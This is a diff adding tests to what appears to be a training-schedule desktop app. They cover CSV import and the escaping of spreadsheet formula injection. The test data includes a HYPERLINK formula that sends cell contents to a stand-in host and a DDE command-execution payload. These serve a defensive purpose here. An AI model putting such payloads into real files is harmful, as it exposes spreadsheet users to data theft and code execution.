@@ -192,3 +192,81 @@ test('an .xlsx with two sheets: the first is read unless another is chosen; spre
   assert.equal(first!.draft.price, 139.99);
   assert.equal(first!.draft.seatsRemaining, 14);
 });
+
+test('a row with no offering ID imports without a word about its ID: one is made for it, as for a new draft', async (t) => {
+  const { services } = testServices(t);
+  const { ipc } = ipcFor(services);
+  const csv = ['Offering ID,Course name,Training standard,Date,Start,End,Seats remaining,Price,Street address,City,Postal code,Registration URL', ',WAH no ID,WAH-E-I,2031-10-06,08:30,16:30,12,149.99,100 Queen St W,Toronto,M5H 2N2,https://training.example.ca/r/no-id'].join('\r\n');
+  const file = Buffer.from(csv).toString('base64');
+  const preview = await ipc('schedule:preview', { file, choices: {} });
+  assert.deepEqual(preview.rows.map((r) => [r.action, r.problems, r.incomplete]), [['create', [], []]], 'no “Use 1–64 letters…” on the row');
+  await ipc('schedule:import', { file, choices: {} });
+  const [row] = services.catalogue.list();
+  assert.match(row!.draft.offeringId, /^wah-e-i-2031-10-06-[a-z0-9x]{4}$/);
+  assert.equal(row!.status, 'draft', 'ready to publish, not incomplete');
+});
+
+test('formula injection: cells starting with = + - @, a tab or a CR are escaped in every CSV the desk writes, and read back unchanged', async (t) => {
+  const { parse } = await import('csv-parse/sync');
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click for your certificate")',
+    '+1 Working at Heights',
+    '-Refresher',
+    '@SUM(A1:A9)',
+    '\tTabbed WAH',
+    '\rCarriage WAH',
+    "'=already quoted",
+    "'Tis the season — a plain quote",
+  ];
+  const { services: first } = testServices(t);
+  const a = ipcFor(first).ipc;
+  for (const [i, courseName] of hostile.entries()) {
+    await a('offerings:save', { id: null, draft: validDraft({ offeringId: `inj-${i}`, courseName, address: { street: '=cmd|\' /C calc\'!A0', extended: '-', city: 'Toronto', province: 'ON', postalCode: 'M5H 2N2' } }) });
+  }
+  // A spreadsheet would see what csv-parse sees: no cell of any CSV the desk writes may start a formula.
+  const startsFormula = (cells: string[][]) => cells.flat().filter((c) => /^[=+\-@\t\r]/.test(c));
+  const exported = await a('offerings:exportCsv', { query: {} });
+  assert.deepEqual(startsFormula(parse(exported.text.slice(1)) as string[][]), [], 'Export CSV');
+  assert.match(exported.text, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1,""Click for your certificate""\)",/, 'escaped and quoted, as OWASP advises');
+  assert.match(exported.text, /,"''=already quoted",/, 'a real leading quote before a formula character gets one more');
+  assert.match(exported.text, /,'Tis the season — a plain quote,|,"'Tis the season — a plain quote",/);
+  // Activity's CSV and the refused rows' CSV: a table the window built, with the server's words in it.
+  const table = await a('export:csv', { rows: [['Time', 'Result'], ['2031-01-01', '=2+5 said the Marketplace'], ['2031-01-02', '-1'], ['2031-01-03', '@x']] });
+  assert.deepEqual(startsFormula(parse(table.text.slice(1)) as string[][]), [], 'export:csv');
+  assert.deepEqual((parse(table.text.slice(1)) as string[][]).map((r) => r[1]), ['Result', "'=2+5 said the Marketplace", "'-1", "'@x"]);
+
+  // The import reads the desk's own export back unchanged.
+  const { services: second } = testServices(t);
+  const b = ipcFor(second).ipc;
+  const file = Buffer.from(exported.text, 'utf8').toString('base64');
+  assert.equal((await b('schedule:import', { file, choices: {} })).created, hostile.length);
+  const drafts = (s: typeof first) => s.catalogue.list().map((r) => r.draft).sort((x, y) => x.offeringId.localeCompare(y.offeringId));
+  // The import trims the whitespace around every cell, as it always has (" WAH" reads as "WAH"): the tab and CR
+  // names come back trimmed, not as formulas; every other cell comes back exactly.
+  const trimmed = (list: ReturnType<typeof drafts>) => list.map((d) => ({ ...d, courseName: d.courseName.trim() }));
+  assert.deepEqual(drafts(second), trimmed(drafts(first)));
+  assert.deepEqual(drafts(second).map((d) => d.courseName), hostile.map((name) => name.trim()));
+  assert.equal(drafts(second)[0]!.address.street, "=cmd|' /C calc'!A0");
+
+  // Refused rows saved as CSV (as ImportReport does) and imported again keep their cells exactly.
+  const refusedFile = Buffer.from(`Course name,Training standard,Date,Start,End\r\n,WAH-E-I,=1+1,@start,-end\r\n`, 'utf8').toString('base64');
+  const preview = await b('schedule:preview', { file: refusedFile, choices: {} });
+  const refused = preview.rows.filter((r: { action: string }) => r.action === 'refused');
+  assert.equal(refused.length, 1);
+  const saved = await b('export:csv', { rows: [preview.headers, ...refused.map((r: { cells: string[] }) => r.cells)] });
+  assert.deepEqual(startsFormula(parse(saved.text.slice(1)) as string[][]), []);
+  const again = await b('schedule:preview', { file: Buffer.from(saved.text, 'utf8').toString('base64'), choices: {} });
+  assert.deepEqual(again.rows.map((r: { cells: string[] }) => r.cells), refused.map((r: { cells: string[] }) => r.cells));
+  assert.deepEqual(refused[0]!.cells, ['', 'WAH-E-I', '=1+1', '@start', '-end']);
+});
+
+test('formula injection: an export saved from a spreadsheet as .xlsx with its escaping quotes as text reads back as the desk wrote it', async (t) => {
+  const { services } = testServices(t);
+  const { ipc } = ipcFor(services);
+  const header = ['Offering ID', 'Course name', 'Training standard', 'Date', 'Start', 'End', 'City'].map((value) => ({ value }));
+  const row = ["'=xl-1", "'=1+1 WAH", 'WAH-E-I', '2031-10-06', '08:30', '16:30', "'-Toronto"].map((value) => ({ value }));
+  const buffer = await writeXlsxFile([header, row] as never).toBuffer();
+  await ipc('schedule:import', { file: Buffer.from(buffer).toString('base64'), choices: {} });
+  const [imported] = services.catalogue.list();
+  assert.deepEqual([imported!.draft.offeringId, imported!.draft.courseName, imported!.draft.address.city], ['=xl-1', '=1+1 WAH', '-Toronto']);
+});
